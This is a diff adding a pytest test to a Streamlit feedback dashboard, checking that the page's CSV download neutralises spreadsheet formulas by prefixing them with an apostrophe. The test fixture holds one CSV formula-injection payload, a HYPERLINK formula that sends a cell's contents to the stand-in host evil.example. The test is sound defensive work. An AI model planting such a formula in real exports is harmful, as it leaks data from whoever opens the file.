@@ -2,13 +2,21 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
+from datetime import timedelta
 from pathlib import Path
+from typing import Any
 
+import pytest
+import streamlit
 from streamlit.testing.v1 import AppTest
 
 from store.engine import build_engine
 from store.explorer import read_corrections
+from store.feedback import read_feedback, upsert_feedback
+from store.records import FeedbackFrame, FeedbackRecord, SourceSpec
 
 APP = str(Path(__file__).resolve().parents[2] / "dashboard" / "app.py")
 
@@ -52,3 +60,43 @@ def test_explorer__a_correction_is_stored_and_shown(demo_database: str, use_data
     assert shown[shown["id"] == item]["corrected_sentiment"].tolist() == ["negative"]
     corrections = read_corrections(build_engine(url))
     assert corrections.select("feedback_id", "field", "value").rows() == [(item, "sentiment", "negative")]
+
+
+# A review whose text a spreadsheet would run (a link that sends the row away when clicked), as a review
+# site's export can carry it.
+HOSTILE_REVIEW = '=HYPERLINK("http://evil.example/?q="&A2,"zebracake refund here")'
+
+
+def test_explorer__the_page_download_neutralises_formulas(  # type: ignore[no-untyped-def]
+    demo_database: str, use_database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copy = tmp_path / "pulse.db"
+    shutil.copy(demo_database.removeprefix("sqlite:///"), copy)
+    url = f"sqlite:///{copy}"
+    engine = build_engine(url)
+    newest = read_feedback(engine, ("created_at",))["created_at"].max()
+    review = FeedbackRecord(
+        external_id="evil-1",
+        kind="review",
+        created_at=newest + timedelta(minutes=1),
+        text=HOSTILE_REVIEW,
+        stars=1,
+    )
+    upsert_feedback(engine, SourceSpec("Review export", "review", "csv"), FeedbackFrame.of([review]))
+    engine.dispose()
+    downloads: list[dict[str, Any]] = []
+    button = streamlit.download_button
+
+    def recorded(*args: Any, **kwargs: Any) -> Any:
+        downloads.append(kwargs)
+        return button(*args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recorded)
+    use_database(url)
+    app = explorer()
+    app.text_input(key="explorer__search").input("zebracake").run()
+    assert app.dataframe[0].value["text"].tolist() == [HOSTILE_REVIEW]  # shown as typed
+    assert app.get("download_button")[0].label == "Download this page (CSV)"
+    served = downloads[-1]["data"]()  # what a click on the button serves
+    header, *rows = list(csv.reader(io.StringIO(served.decode("utf-8"))))
+    assert [row[header.index("text")] for row in rows] == ["'" + HOSTILE_REVIEW]
